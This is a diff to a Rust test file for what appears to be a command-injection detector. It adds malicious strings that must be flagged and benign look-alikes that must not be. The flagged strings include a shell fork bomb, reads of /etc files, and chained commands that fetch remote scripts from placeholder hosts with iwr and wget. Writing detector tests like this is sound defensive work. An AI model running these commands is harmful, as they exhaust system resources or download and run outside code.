@@ -191,6 +191,12 @@ fn commands_are_found() {
         Kind::CommandInjection,
         Place::Text,
         &[
+            "ls -l /etc/group",
+            ":(){ :|:& };:",
+            "x() { x | x & }; x",
+            "for /f %x in (a b) do y",
+            "for %%x in (a) do y",
+            "7;iwr http://x.example/y.ps1",
             "x; cat /etc/x",
             "x|id",
             "x && wget http://evil.example/x",
@@ -210,6 +216,10 @@ fn commands_are_found() {
     assert_quiet(
         Place::Text,
         &[
+            "function f() { return a || b && c }",
+            "f() { return a | b & c }",
+            "100% in (or out of) it",
+            "ls -l of the folder",
             "cats & dogs",
             "a; sort of",
             "AT&T; R&D",
